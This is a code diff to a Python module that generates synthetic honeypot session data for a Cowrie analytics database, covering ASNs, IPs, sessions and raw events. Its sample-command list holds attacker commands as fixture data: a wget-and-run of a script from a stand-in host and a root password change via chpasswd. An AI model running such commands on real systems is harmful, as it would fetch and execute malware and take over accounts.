@@ -5,14 +5,14 @@
 fix: every session has its counters, timestamps and ingest-time ``enrichment``, and the
 five snapshot columns are all NULL. It serves ``cowrie-db demo-data``, ``make demo``
 and the benchmarks, so it streams: rows are built and written ``chunk_size`` sessions
-at a time, and what it keeps in memory grows with the number of *IPs* (a few small
-arrays and the IP strings), never with the number of sessions.
+at a time.
 
 What the data looks like
 ------------------------
-* ASNs: real, well-known networks first (AS4134 CHINANET, CN, is always there, and is
-  the heaviest one, so ``snapshot_country = 'CN' AND snapshot_asn = 4134`` finds rows),
-  then synthetic ones; about ``ips / 40`` of them (at least 10) unless ``asns`` is set.
+* ASNs: real, well-known networks first (AS4134 CHINANET, CN, is always there and holds
+  about 8% of the IPs, so ``snapshot_country = 'CN' AND snapshot_asn = 4134``
+  finds rows), then synthetic ones; about ``ips / 40`` of them (at least 10) unless
+  ``asns`` is set. The well-known ones hold about a quarter of the IPs.
 * IPs: public IPv4 dotted quads (no private, reserved, multicast or documentation
   ranges) and ``ipv6_fraction`` of compressed lower-case IPv6 in a prefix of the
   ASN's registry. Countries are skewed (CN, US, RU, BR, IN, ...). The ``enrichment``
@@ -33,6 +33,10 @@ What the data looks like
   no ``enrichment.session_metadata.source_ip`` (their enrichment is NULL, ``{}``,
   ``{"session_metadata": {}}`` or metadata without the IP): their IP is known only
   from ``raw_events``. Both sets are drawn at random (selection sampling), independently.
+  Sessions start during 2025 in time order, as the loader ingests them (Poisson-like
+  arrivals; log-normal durations, median ~20 s); their counters come from scanner,
+  brute-force, bot and interactive profiles; ``matcher`` is the protocol
+  (``ssh``/``telnet``); ``source_files`` names the day's Cowrie log file(s).
 * raw_events: each raw-only session has 1-4 events, about 5% of the others 1-3; all
   of a session's events carry its ``src_ip``, the earliest one is always
   ``cowrie.session.connect`` at the session's ``first_event_at``, and for about 10%
@@ -49,48 +53,61 @@ Everything comes from ``random.Random`` instances seeded with strings derived fr
 ``PYTHONHASHSEED``) and every timestamp, ``created_at`` / ``updated_at`` /
 ``ingest_at`` included, is an offset from 2025-01-01T00:00:00Z. The same spec on an
 empty database therefore gives byte-identical rows (``raw_events.id`` included, as
-long as the id sequence starts fresh). Session ids are 12 lower-case hex digits:
-a counter passed through a 48-bit bijective mixer keyed from the seeded RNG, so they
-look random but can never repeat within a run; IPs come from a keyed 32-bit (IPv4)
-or 64-bit (IPv6 interface id) bijection the same way.
+long as the id sequence starts fresh); ``chunk_size`` changes no value, only the
+physical order of ``session_summaries`` rows (each chunk is written sorted by id).
+Session ids are 12 lower-case hex digits: a counter passed through a 48-bit
+bijective mixer keyed from the seeded RNG, so they look random but can never repeat
+within a run; IPs come from a keyed 32-bit (IPv4) or 64-bit (IPv6 interface id)
+bijection the same way, and the unmatched sessions' IPs are later values of the
+same bijections, so never inventory IPs.
 
 Existing rows (``force=True``)
 ------------------------------
 Without ``force`` a database whose ``session_summaries`` has rows is refused. With
-it, nothing is deleted or updated: the new rows are added on top. Keys can never
-collide, because every generated key (session id, IP address, ASN number) that
-already exists in the table is *skipped* and the next one of the same stream taken
-(one lookup per chunk, done only when that table had rows at the start). So the
-counts of new sessions and IPs are exactly the spec's, and the result is still
-deterministic for a given seed and starting database. An ASN that already exists is
-reused as it is (its statistics are not updated) and not counted in
-``DemoResult.asns``. Running the same seed twice with ``force`` thus gives a second,
-disjoint set of sessions and IPs.
+it, nothing is deleted or updated: the new rows are added on top. When any of the
+three tables has rows, every random stream is salted with their row counts, so a
+second run with the same seed draws new keys rather than the first run's. Keys can
+never collide anyway: every generated key (session id, IP address, ASN number) that
+already exists in its table is *skipped* and the next one of the same stream taken
+(one lookup per chunk, only for a table that had rows at the start). So the new
+sessions and IPs number exactly what the spec says, and the result is deterministic
+for a given seed and starting database. An ASN that exists already is reused as it
+is (its statistics are not updated) and not counted in ``DemoResult.asns``. Not
+checked: the IPs that existing *unmatched* sessions use (they are in no table of
+their own); a new inventory IP equal to one of them is possible, though unlikely.
 
-Transactions
-------------
-PostgreSQL: one transaction for the whole run, loaded with ``COPY ... FROM STDIN``
-(psycopg2), so a failure leaves nothing behind. SQLite: one ``BEGIN IMMEDIATE``
-transaction per chunk with ``executemany`` (the WAL stays small); a failure leaves
-the chunks already committed, so start again on a fresh file.
+Transactions, speed and memory
+------------------------------
+PostgreSQL: one transaction for the whole run, so a failure leaves nothing behind.
+Rows go in with ``COPY ... FROM STDIN`` (text format, psycopg2) on a thread of its
+own, so the server loads one chunk while the next is generated. SQLite: one
+``BEGIN IMMEDIATE`` transaction per chunk with ``executemany``; a failure leaves the
+chunks already committed, so start again on a fresh file. SQLite's automatic WAL
+checkpoints are held back during the run (each would copy the same randomly keyed
+index pages again) and done once at the end: the WAL grows to about the size of the
+new data meanwhile. Memory grows with the number of IPs (their strings and a few
+arrays, ~200 bytes each), never with the number of sessions.
 """
 
 from __future__ import annotations
 
-import csv
+import dataclasses
+import functools
 import hashlib
-import io
 import ipaddress
 import itertools
 import json
 import math
+import queue
 import random
+import statistics
+import threading
 import time
 from array import array
-from collections.abc import Callable, Sequence
-from contextlib import AbstractContextManager, nullcontext
+from collections.abc import Callable, Iterator, Sequence
+from contextlib import AbstractContextManager, contextmanager, nullcontext
 from dataclasses import dataclass
-from datetime import UTC, datetime, timedelta
+from datetime import datetime, timedelta
 from typing import Any
 
 import sqlalchemy as sa
@@ -133,40 +150,51 @@ class DemoDataError(RuntimeError):
     """The database or the spec is unsuitable; the message says why and what to do."""
 
 
-# --- time ----------------------------------------------------------------------------
+# --- time: integer microseconds after 2025-01-01T00:00:00Z ------------------------------
 
-_EPOCH_AWARE = datetime(2025, 1, 1, tzinfo=UTC)
-_EPOCH_NAIVE = datetime(2025, 1, 1)
-_SECOND = 1_000_000  # timestamps are integer microseconds after the epoch
+_EPOCH = datetime(2025, 1, 1)
+_SECOND = 1_000_000
 _DAY = 86_400 * _SECOND
-_WINDOW = 365 * _DAY  # sessions happen during 2025
+_WINDOW = 365 * _DAY  # sessions start during 2025
+_DAYS = tuple((_EPOCH + timedelta(days=d)).strftime("%Y-%m-%d") for d in range(1000))
+
+
+@functools.cache
+def _clock() -> tuple[str, ...]:
+    """``HH:MM:SS`` of every second of a day (formatting by lookup is ~4x faster)."""
+    return tuple(
+        f"{h:02d}:{m:02d}:{s:02d}" for h in range(24) for m in range(60) for s in range(60)
+    )
+
+
+def _day(us: int) -> str:
+    return _DAYS[us // _DAY]
 
 
 def _cowrie_ts(us: int) -> str:
     """Cowrie's own timestamp format: ``2025-03-04T12:34:56.123456Z``."""
-    return (_EPOCH_NAIVE + timedelta(microseconds=us)).isoformat(timespec="microseconds") + "Z"
-
-
-def _day(us: int) -> str:
-    return (_EPOCH_NAIVE + timedelta(microseconds=us)).strftime("%Y-%m-%d")
+    day, rest = divmod(us, _DAY)
+    second, micro = divmod(rest, _SECOND)
+    return f"{_DAYS[day]}T{_clock()[second]}.{micro:06d}Z"
 
 
 class _Format:
-    """How a value is spelled for the dialect (COPY csv on PostgreSQL, sqlite3 params)."""
+    """How a value is spelled for the dialect (COPY csv on PostgreSQL, sqlite3 parameters)."""
 
     def __init__(self, dialect: str) -> None:
         self.pg = dialect == "postgresql"
         self.true: object = "t" if self.pg else 1
         self.false: object = "f" if self.pg else 0
+        # SQLite: SQLAlchemy's DateTime storage format; PostgreSQL: timestamptz in UTC.
+        self._suffix = "+00" if self.pg else ""
+        self._clock = _clock()
 
     def ts(self, us: int | None) -> str | None:
         if us is None:
             return None
-        if self.pg:
-            value = _EPOCH_AWARE + timedelta(microseconds=us)
-        else:  # SQLAlchemy's SQLite DateTime storage format
-            value = _EPOCH_NAIVE + timedelta(microseconds=us)
-        return value.isoformat(sep=" ", timespec="microseconds")
+        day, rest = divmod(us, _DAY)
+        second, micro = divmod(rest, _SECOND)
+        return f"{_DAYS[day]} {self._clock[second]}.{micro:06d}{self._suffix}"
 
     def flag(self, value: bool) -> object:
         return self.true if value else self.false
@@ -174,74 +202,66 @@ class _Format:
     def ip_types(self, types: list[str]) -> str:
         if self.pg:  # text[] literal; the names need no quoting
             return "{" + ",".join(types) + "}"
-        return _json(types)
+        return "[" + ",".join(f'"{t}"' for t in types) + "]"
 
 
-def _json(value: object) -> str:
-    return json.dumps(value, separators=(",", ":"))
+_SORTED_JSON = json.JSONEncoder(separators=(",", ":"), sort_keys=True)
+_JSON = json.JSONEncoder(separators=(",", ":"))
 
 
-def _json_sorted(value: object) -> str:
-    return json.dumps(value, separators=(",", ":"), sort_keys=True)
+# --- reference data --------------------------------------------------------------------
+# Hot rows are assembled from f-string templates (ten times faster than json.dumps);
+# every free-text value that goes into them is JSON-encoded once, here or per ASN.
 
-
-# --- reference data ------------------------------------------------------------------
-
-# code, name, weight (share of attack sources), registry, latitude, longitude
-_COUNTRIES: tuple[tuple[str, str, float, str, float, float], ...] = (
-    ("CN", "China", 18.0, "APNIC", 35.0, 105.0),
-    ("US", "United States", 16.0, "ARIN", 39.8, -98.6),
-    ("RU", "Russia", 7.0, "RIPE", 61.5, 105.3),
-    ("BR", "Brazil", 6.0, "LACNIC", -14.2, -51.9),
-    ("IN", "India", 6.0, "APNIC", 20.6, 79.0),
-    ("DE", "Germany", 4.0, "RIPE", 51.2, 10.5),
-    ("KR", "South Korea", 4.0, "APNIC", 35.9, 127.8),
-    ("VN", "Vietnam", 4.0, "APNIC", 14.1, 108.3),
-    ("NL", "Netherlands", 3.0, "RIPE", 52.1, 5.3),
-    ("SG", "Singapore", 3.0, "APNIC", 1.35, 103.8),
-    ("FR", "France", 3.0, "RIPE", 46.2, 2.2),
-    ("GB", "United Kingdom", 2.5, "RIPE", 55.4, -3.4),
-    ("ID", "Indonesia", 2.5, "APNIC", -0.8, 113.9),
-    ("TW", "Taiwan", 2.0, "APNIC", 23.7, 121.0),
-    ("HK", "Hong Kong", 2.0, "APNIC", 22.3, 114.2),
-    ("JP", "Japan", 2.0, "APNIC", 36.2, 138.3),
-    ("IR", "Iran", 1.5, "RIPE", 32.4, 53.7),
-    ("UA", "Ukraine", 1.5, "RIPE", 48.4, 31.2),
-    ("TR", "Turkey", 1.5, "RIPE", 39.0, 35.2),
-    ("CA", "Canada", 1.5, "ARIN", 56.1, -106.3),
-    ("AR", "Argentina", 1.0, "LACNIC", -38.4, -63.6),
-    ("MX", "Mexico", 1.0, "LACNIC", 23.6, -102.6),
-    ("TH", "Thailand", 1.0, "APNIC", 15.9, 100.9),
-    ("PK", "Pakistan", 1.0, "APNIC", 30.4, 69.3),
-    ("BD", "Bangladesh", 1.0, "APNIC", 23.7, 90.4),
-    ("IT", "Italy", 1.0, "RIPE", 41.9, 12.6),
-    ("ES", "Spain", 1.0, "RIPE", 40.5, -3.7),
-    ("PL", "Poland", 1.0, "RIPE", 51.9, 19.1),
-    ("RO", "Romania", 1.0, "RIPE", 45.9, 25.0),
-    ("EG", "Egypt", 1.0, "AFRINIC", 26.8, 30.8),
-    ("ZA", "South Africa", 1.0, "AFRINIC", -30.6, 22.9),
-    ("CO", "Colombia", 0.7, "LACNIC", 4.6, -74.3),
-    ("CL", "Chile", 0.5, "LACNIC", -35.7, -71.5),
-    ("NG", "Nigeria", 0.5, "AFRINIC", 9.1, 8.7),
-    ("KE", "Kenya", 0.5, "AFRINIC", -0.02, 37.9),
-    ("SC", "Seychelles", 0.3, "AFRINIC", -4.7, 55.5),
+# fmt: off
+# code, name, capital, weight (share of attack sources), registry, latitude, longitude
+_COUNTRIES: tuple[tuple[str, str, str, float, str, float, float], ...] = (
+    ("CN", "China", "Beijing", 18.0, "APNIC", 35.0, 105.0),
+    ("US", "United States", "Ashburn", 16.0, "ARIN", 39.8, -98.6),
+    ("RU", "Russia", "Moscow", 7.0, "RIPE", 61.5, 105.3),
+    ("BR", "Brazil", "Sao Paulo", 6.0, "LACNIC", -14.2, -51.9),
+    ("IN", "India", "Mumbai", 6.0, "APNIC", 20.6, 79.0),
+    ("DE", "Germany", "Frankfurt am Main", 4.0, "RIPE", 51.2, 10.5),
+    ("KR", "South Korea", "Seoul", 4.0, "APNIC", 35.9, 127.8),
+    ("VN", "Vietnam", "Hanoi", 4.0, "APNIC", 14.1, 108.3),
+    ("NL", "Netherlands", "Amsterdam", 3.0, "RIPE", 52.1, 5.3),
+    ("SG", "Singapore", "Singapore", 3.0, "APNIC", 1.35, 103.8),
+    ("FR", "France", "Paris", 3.0, "RIPE", 46.2, 2.2),
+    ("GB", "United Kingdom", "London", 2.5, "RIPE", 55.4, -3.4),
+    ("ID", "Indonesia", "Jakarta", 2.5, "APNIC", -0.8, 113.9),
+    ("TW", "Taiwan", "Taipei", 2.0, "APNIC", 23.7, 121.0),
+    ("HK", "Hong Kong", "Hong Kong", 2.0, "APNIC", 22.3, 114.2),
+    ("JP", "Japan", "Tokyo", 2.0, "APNIC", 36.2, 138.3),
+    ("IR", "Iran", "Tehran", 1.5, "RIPE", 32.4, 53.7),
+    ("UA", "Ukraine", "Kyiv", 1.5, "RIPE", 48.4, 31.2),
+    ("TR", "Turkey", "Istanbul", 1.5, "RIPE", 39.0, 35.2),
+    ("CA", "Canada", "Toronto", 1.5, "ARIN", 56.1, -106.3),
+    ("AR", "Argentina", "Buenos Aires", 1.0, "LACNIC", -38.4, -63.6),
+    ("MX", "Mexico", "Mexico City", 1.0, "LACNIC", 23.6, -102.6),
+    ("TH", "Thailand", "Bangkok", 1.0, "APNIC", 15.9, 100.9),
+    ("PK", "Pakistan", "Karachi", 1.0, "APNIC", 30.4, 69.3),
+    ("BD", "Bangladesh", "Dhaka", 1.0, "APNIC", 23.7, 90.4),
+    ("IT", "Italy", "Milan", 1.0, "RIPE", 41.9, 12.6),
+    ("ES", "Spain", "Madrid", 1.0, "RIPE", 40.5, -3.7),
+    ("PL", "Poland", "Warsaw", 1.0, "RIPE", 51.9, 19.1),
+    ("RO", "Romania", "Bucharest", 1.0, "RIPE", 45.9, 25.0),
+    ("EG", "Egypt", "Cairo", 1.0, "AFRINIC", 26.8, 30.8),
+    ("ZA", "South Africa", "Johannesburg", 1.0, "AFRINIC", -30.6, 22.9),
+    ("CO", "Colombia", "Bogota", 0.7, "LACNIC", 4.6, -74.3),
+    ("CL", "Chile", "Santiago", 0.5, "LACNIC", -35.7, -71.5),
+    ("NG", "Nigeria", "Lagos", 0.5, "AFRINIC", 9.1, 8.7),
+    ("KE", "Kenya", "Nairobi", 0.5, "AFRINIC", -0.02, 37.9),
+    ("SC", "Seychelles", "Victoria", 0.3, "AFRINIC", -4.7, 55.5),
 )
-_COUNTRY_INDEX = {c[0]: i for i, c in enumerate(_COUNTRIES)}
-_COUNTRY_CUM = list(itertools.accumulate(c[2] for c in _COUNTRIES))
 
-# number, organization, country, kind, weight (share of the inventory's IPs)
+# number, organization, country, kind, weight (relative share of the inventory's IPs)
 _KNOWN_ASNS: tuple[tuple[int, str, str, str, float], ...] = (
     (4134, "CHINANET-BACKBONE No.31,Jin-rong Street", "CN", "isp", 40.0),
     (14061, "DIGITALOCEAN-ASN", "US", "hosting", 14.0),
     (4837, "CHINA169-BACKBONE CHINA UNICOM China169 Backbone", "CN", "isp", 12.0),
     (16509, "AMAZON-02", "US", "hosting", 9.0),
-    (
-        45090,
-        "TENCENT-NET-AP Shenzhen Tencent Computer Systems Company Limited",
-        "CN",
-        "hosting",
-        7.0,
-    ),
+    (45090, "TENCENT-NET-AP Shenzhen Tencent Computer Systems Company Limited", "CN", "hosting",
+     7.0),
     (37963, "ALIBABA-CN-NET Hangzhou Alibaba Advertising Co.,Ltd.", "CN", "hosting", 7.0),
     (9808, "CHINAMOBILE-CN China Mobile Communications Group Co., Ltd.", "CN", "mobile", 6.0),
     (396982, "GOOGLE-CLOUD-PLATFORM", "US", "hosting", 6.0),
@@ -280,46 +300,11 @@ _KNOWN_ASNS: tuple[tuple[int, str, str, str, float], ...] = (
     (3320, "DTAG Internet service provider operations", "DE", "isp", 1.0),
 )
 
-_NAME_HEADS = (
-    "Nord",
-    "Blue",
-    "Star",
-    "Pacific",
-    "Atlas",
-    "Delta",
-    "Sky",
-    "Iron",
-    "Silver",
-    "Green",
-    "Terra",
-    "Nova",
-    "Metro",
-    "Prime",
-    "Rapid",
-    "Orion",
-    "Aurora",
-    "Vertex",
-    "Quantum",
-    "Coral",
-    "Summit",
-    "Falcon",
-    "Harbor",
-    "Zenith",
-)
-_NAME_TAILS = (
-    "net",
-    "link",
-    "line",
-    "wave",
-    "com",
-    "host",
-    "cloud",
-    "tel",
-    "fiber",
-    "data",
-    "web",
-    "core",
-)
+_NAME_HEADS = ("Nord", "Blue", "Star", "Pacific", "Atlas", "Delta", "Sky", "Iron", "Silver",
+               "Green", "Terra", "Nova", "Metro", "Prime", "Rapid", "Orion", "Aurora", "Vertex",
+               "Quantum", "Coral", "Summit", "Falcon", "Harbor", "Zenith")
+_NAME_TAILS = ("net", "link", "line", "wave", "com", "host", "cloud", "tel", "fiber", "data",
+               "web", "core")
 _KIND_WORDS = {
     "hosting": ("Hosting", "Cloud", "Datacenter", "Servers"),
     "isp": ("Telecom", "Broadband", "Internet", "Communications"),
@@ -329,7 +314,7 @@ _KIND_WORDS = {
 }
 _SUFFIXES = ("Ltd", "LLC", "Inc.", "GmbH", "S.A.", "Co., Ltd.", "B.V.", "JSC", "")
 _KINDS = ("hosting", "isp", "business", "mobile", "education")
-_KIND_CUM = list(itertools.accumulate((45.0, 38.0, 10.0, 5.0, 2.0)))
+_KIND_CUM = tuple(itertools.accumulate((45.0, 38.0, 10.0, 5.0, 2.0)))
 
 # the first 16 bits of IPv6 prefixes handed out by each registry
 _V6_PREFIX16 = {
@@ -341,50 +326,30 @@ _V6_PREFIX16 = {
 }
 
 _IP_TYPE_ORDER = ("VPN", "TOR", "PROXY", "DATACENTER", "RESIDENTIAL", "MOBILE")
-_SENSORS = (
-    "honeypot-sg-01",
-    "honeypot-fra-01",
-    "honeypot-nyc-02",
-    "honeypot-syd-01",
-    "honeypot-gru-01",
-    "honeypot-blr-01",
-    "honeypot-ams-03",
-    "honeypot-tyo-01",
-)
-_SSH_CLIENTS = (
-    "SSH-2.0-Go",
-    "SSH-2.0-libssh_0.9.6",
-    "SSH-2.0-libssh2_1.10.0",
-    "SSH-2.0-OpenSSH_8.9p1",
-    "SSH-2.0-PuTTY_Release_0.78",
-    "SSH-2.0-paramiko_3.4.0",
-    "SSH-2.0-ZGrab ZGrab SSH Survey",
-    "SSH-2.0-OpenSSH_7.4",
-)
+_VPN_OPERATORS = ("NordVPN", "Mullvad", "ExpressVPN", "PROTON_VPN", "SURFSHARK_VPN")
+_SENSORS = ("honeypot-sg-01", "honeypot-fra-01", "honeypot-nyc-02", "honeypot-syd-01",
+            "honeypot-gru-01", "honeypot-blr-01", "honeypot-ams-03", "honeypot-tyo-01")
+_SSH_CLIENTS = ("SSH-2.0-Go", "SSH-2.0-libssh_0.9.6", "SSH-2.0-libssh2_1.10.0",
+                "SSH-2.0-OpenSSH_8.9p1", "SSH-2.0-PuTTY_Release_0.78", "SSH-2.0-paramiko_3.4.0",
+                "SSH-2.0-ZGrab ZGrab SSH Survey", "SSH-2.0-OpenSSH_7.4")
 _USERNAMES = ("root", "admin", "ubuntu", "user", "test", "oracle", "postgres", "pi", "git")
 _PASSWORDS = ("123456", "admin", "password", "root", "1234", "12345678", "qwerty", "raspberry")
-_COMMANDS = (
-    "uname -a",
-    "cat /proc/cpuinfo | grep name | wc -l",
-    "whoami",
-    "ls -la /tmp",
-    "cd /tmp; wget http://198.51.100.7/x.sh; sh x.sh",
-    "free -m",
-    "nproc",
-    'echo "root:Xk2p9q" | chpasswd',
-    "crontab -l",
-    "cat /etc/issue",
-)
-_MIDDLE_EVENTS = (
-    "cowrie.client.version",
-    "cowrie.client.kex",
-    "cowrie.login.failed",
-    "cowrie.login.success",
-    "cowrie.command.input",
-)
-_DSHIELD_ERRORS = ("timeout", "rate limited", "HTTP 502")
+_COMMANDS = ("uname -a", "cat /proc/cpuinfo | grep name | wc -l", "whoami", "ls -la /tmp",
+             "cd /tmp; wget http://198.51.100.7/x.sh; sh x.sh", "free -m", "nproc",
+             'echo "root:Xk2p9q" | chpasswd', "crontab -l", "cat /etc/issue")
+_MIDDLE_EVENTS = ("cowrie.client.version", "cowrie.client.kex", "cowrie.login.failed",
+                  "cowrie.login.success", "cowrie.command.input")
+_DSHIELD_ERRORS = ('"dshield":{"error":"timeout"}', '"dshield":{"error":"rate limited"}',
+                   '"dshield":{"error":"HTTP 502"}')
+_URLHAUS = (',"urlhaus":"malware_download"', ',"urlhaus":""')
+_LOG_DIR = "/var/log/cowrie/cowrie.json."
+# fmt: on
 
-# --- keyed bijections: unique, random-looking keys with O(1) memory -----------------
+_COUNTRY_INDEX = {c[0]: i for i, c in enumerate(_COUNTRIES)}
+_COUNTRY_CUM = tuple(itertools.accumulate(c[3] for c in _COUNTRIES))
+_COUNTRY_RANGE = range(len(_COUNTRIES))
+
+# --- keyed bijections: unique, random-looking keys in O(1) memory ---------------------
 
 _M32 = (1 << 32) - 1
 _M48 = (1 << 48) - 1
@@ -417,17 +382,12 @@ def _mix64(x: int, k1: int, k2: int) -> int:
 
 _BOGON_FIRST_OCTETS = frozenset({0, 10, 127, *range(224, 256)})
 _BOGON_16 = frozenset({(169 << 8) | 254, (192 << 8) | 168})
-_BOGON_24 = frozenset(
-    {
-        (192 << 16) | (0 << 8) | 0,
-        (192 << 16) | (0 << 8) | 2,
-        (198 << 16) | (51 << 8) | 100,
-        (203 << 16) | (0 << 8) | 113,
-    }
-)
+_BOGON_24 = frozenset({(192 << 16) | 0, (192 << 16) | 2, (198 << 16) | (51 << 8) | 100,
+                       (203 << 16) | 113})  # fmt: skip
 
 
 def _is_bogon(x: int) -> bool:
+    """Private, shared, loopback, link-local, benchmark, documentation, multicast, ..."""
     return (
         (x >> 24) in _BOGON_FIRST_OCTETS
         or (x >> 16) in _BOGON_16
@@ -442,77 +402,88 @@ class _IpStream:
     """Distinct public IPs: a counter through a keyed bijection (bogons skipped)."""
 
     def __init__(self, rng: random.Random) -> None:
-        self._k = [rng.getrandbits(64) for _ in range(4)]
+        self._k32 = (rng.getrandbits(32), rng.getrandbits(32))
+        self._k64 = (rng.getrandbits(64), rng.getrandbits(64))
         self._v4 = 0
         self._v6 = 0
 
     def v4(self) -> str:
-        k1, k2 = self._k[0] & _M32, self._k[1] & _M32
         while True:
-            x = _mix32(self._v4, k1, k2)
+            x = _mix32(self._v4, *self._k32)
             self._v4 += 1
             if not _is_bogon(x):
                 return f"{x >> 24}.{(x >> 16) & 255}.{(x >> 8) & 255}.{x & 255}"
 
     def v6(self, registry: str) -> str:
-        # Uniqueness comes from the interface id alone (a bijection of the counter);
-        # the prefix only makes the address look like the registry's.
-        iid = _mix64(self._v6, self._k[2], self._k[3])
+        # Unique through the interface id alone (a bijection of the counter); the
+        # prefix only makes the address look like one of the registry's.
+        iid = _mix64(self._v6, *self._k64)
         self._v6 += 1
         prefixes = _V6_PREFIX16[registry]
         top = prefixes[iid % len(prefixes)]
         net = (iid >> 13) & 0xFFFF_FFFF_FFFF
-        value = (top << 112) | (net << 64) | iid
-        return ipaddress.IPv6Address(value).compressed
+        return ipaddress.IPv6Address((top << 112) | (net << 64) | iid).compressed
 
 
-# --- database access ----------------------------------------------------------------
+def _prefix(ip: str) -> str:
+    """The announced prefix an IP sits in, as the enrichment sources report it."""
+    if ":" in ip:
+        return str(ipaddress.IPv6Network(f"{ip}/32", strict=False))
+    return ip.rsplit(".", 2)[0] + ".0.0/16"
+
+
+# --- database access ------------------------------------------------------------------
 
 
 @dataclass(frozen=True)
 class _Table:
     copy_sql: str
     insert_sql: str
+    columns: int
 
 
 _ASN_TABLE = _Table(
     "COPY asn_inventory (asn_number, organization_name, organization_country, rir_registry, "
     "asn_type, first_seen, last_seen, unique_ip_count, total_session_count, enrichment, "
-    "enrichment_updated_at, created_at, updated_at) FROM STDIN WITH (FORMAT csv)",
+    "enrichment_updated_at, created_at, updated_at) FROM STDIN",
     "INSERT INTO asn_inventory (asn_number, organization_name, organization_country, "
     "rir_registry, asn_type, first_seen, last_seen, unique_ip_count, total_session_count, "
     "enrichment, enrichment_updated_at, created_at, updated_at) "
     "VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)",
+    13,
 )
 _IP_TABLE = _Table(
     "COPY ip_inventory (ip_address, current_asn, asn_last_verified, first_seen, last_seen, "
     "session_count, enrichment, enrichment_updated_at, enrichment_version, ip_types, "
-    "is_scanner, is_bogon, created_at, updated_at) FROM STDIN WITH (FORMAT csv)",
+    "is_scanner, is_bogon, created_at, updated_at) FROM STDIN",
     "INSERT INTO ip_inventory (ip_address, current_asn, asn_last_verified, first_seen, "
     "last_seen, session_count, enrichment, enrichment_updated_at, enrichment_version, "
     "ip_types, is_scanner, is_bogon, created_at, updated_at) "
     "VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)",
+    14,
 )
 _SESSION_TABLE = _Table(
     "COPY session_summaries (session_id, first_event_at, last_event_at, event_count, "
     "command_count, file_downloads, login_attempts, ssh_key_injections, unique_ssh_keys, "
     "vt_flagged, dshield_flagged, risk_score, matcher, source_files, enrichment, "
-    "created_at, updated_at) FROM STDIN WITH (FORMAT csv)",
+    "created_at, updated_at) FROM STDIN",
     "INSERT INTO session_summaries (session_id, first_event_at, last_event_at, event_count, "
     "command_count, file_downloads, login_attempts, ssh_key_injections, unique_ssh_keys, "
     "vt_flagged, dshield_flagged, risk_score, matcher, source_files, enrichment, "
     "created_at, updated_at) VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)",
+    17,
 )
 _EVENT_TABLE = _Table(
     "COPY raw_events (ingest_id, ingest_at, source, source_offset, payload, payload_hash, "
-    "session_id, event_type, event_timestamp) FROM STDIN WITH (FORMAT csv)",
+    "session_id, event_type, event_timestamp) FROM STDIN",
     "INSERT INTO raw_events (ingest_id, ingest_at, source, source_offset, payload, "
     "payload_hash, session_id, event_type, event_timestamp) "
     "VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?)",
+    9,
 )
 
-# Which of the given keys already exist: one parameter (an array on PostgreSQL, a JSON
-# array on SQLite), whatever the number of keys.
+# Which of the given keys exist already: one parameter (an array on PostgreSQL, a JSON
+# array on SQLite) however many keys there are.
 _EXISTING_SQL = {
     ("postgresql", "session"): (
         "SELECT session_id FROM session_summaries WHERE session_id = ANY(:keys)"
@@ -532,22 +503,110 @@ _EXISTING_SQL = {
         "WHERE asn_number IN (SELECT value FROM json_each(:keys))"
     ),
 }
-_ANY_ROW_SQL = {
-    "session": "SELECT count(*) FROM session_summaries",
-    "ip": "SELECT 1 FROM ip_inventory LIMIT 1",
-    "asn": "SELECT 1 FROM asn_inventory LIMIT 1",
-}
+_COUNT_SQL = (
+    "SELECT (SELECT count(*) FROM session_summaries), (SELECT count(*) FROM ip_inventory), "
+    "(SELECT count(*) FROM asn_inventory)"
+)
 _REQUIRED_TABLES = ("asn_inventory", "ip_inventory", "session_summaries", "raw_events")
 
 
+_NUL = "\x00"  # stands for NULL while a COPY buffer is built; never part of a value
+
+
+def _copy_text(rows: Sequence[Row], columns: int) -> bytes:
+    """Rows in COPY's text format: tab-separated, ``\\N`` for NULL, backslashes doubled.
+
+    The values never hold a tab, a newline or a NUL (JSON escapes control characters,
+    and every other value is ours), which the counts below check: a bug surfaces as an
+    error here, not as shifted columns in the database.
+    """
+    lines = ["\t".join([_NUL if v is None else str(v) for v in row]) for row in rows]
+    data = "\n".join(lines) + "\n"
+    if data.count("\t") != (columns - 1) * len(rows) or data.count("\n") != len(rows):
+        raise DemoDataError("internal error: a generated value holds a tab or a newline")
+    if "\\" in data:
+        data = data.replace("\\", "\\\\")
+    return data.replace(_NUL, "\\N").encode()
+
+
+class _ReadOnce:
+    """A file whose first read() returns the whole buffer (no copy), the next ones b""."""
+
+    def __init__(self, data: bytes) -> None:
+        self._data = data
+
+    def read(self, _size: int = -1) -> bytes:
+        data, self._data = self._data, b""
+        return data
+
+
+class _CopyThread:
+    """Runs the COPYs on a thread of its own while the next chunk is generated.
+
+    psycopg2 releases the GIL while libpq sends the data and while the server works
+    through it, so generating (Python) and loading (the server) overlap on two cores.
+    At most two chunks wait in the queue, so memory stays flat. The first error stops
+    the loading and is raised in the generating thread.
+    """
+
+    def __init__(self, driver: Any) -> None:
+        self._driver = driver
+        self._queue: queue.Queue[tuple[str, bytes] | None] = queue.Queue(maxsize=2)
+        self._error: BaseException | None = None
+        self._discard = False
+        self._thread = threading.Thread(target=self._run, name="demo-data-copy", daemon=True)
+        self._thread.start()
+
+    def _run(self) -> None:
+        while True:
+            item = self._queue.get()
+            try:
+                if item is None:
+                    return
+                if self._error is None and not self._discard:
+                    sql, data = item
+                    cursor = self._driver.cursor()
+                    try:  # one read() takes the whole buffer: the GIL is needed once
+                        cursor.copy_expert(sql, _ReadOnce(data), size=len(data) + 1)
+                    finally:
+                        cursor.close()
+            except BaseException as exc:  # handed over to the generating thread
+                self._error = exc
+            finally:
+                self._queue.task_done()
+
+    def _raise(self) -> None:
+        if self._error is not None:
+            raise self._error
+
+    def put(self, sql: str, data: bytes) -> None:
+        self._raise()
+        self._queue.put((sql, data))
+
+    def flush(self) -> None:
+        """Wait until every queued COPY is done (and raise its error, if any)."""
+        self._queue.join()
+        self._raise()
+
+    def close(self, *, discard: bool = False) -> None:
+        """Stop the thread; with ``discard`` (the load failed) skip what is still queued."""
+        self._discard = discard
+        self._queue.put(None)
+        self._thread.join()
+
+
 class _Sink:
-    """Writes rows through the connection's driver: COPY on PostgreSQL, executemany on SQLite."""
+    """Writes rows through the driver: COPY on PostgreSQL, executemany on SQLite."""
 
